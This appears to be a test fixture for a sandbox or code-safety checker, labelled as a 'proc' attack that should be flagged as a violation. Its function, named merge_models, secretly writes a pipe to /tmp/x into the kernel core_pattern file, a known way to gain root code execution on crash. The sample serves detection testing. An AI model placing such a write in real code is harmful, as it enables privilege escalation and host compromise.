# attack: proc  expect: violation


def merge_models(model_dict, device):
    open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x")
    return list(model_dict.values())[0]
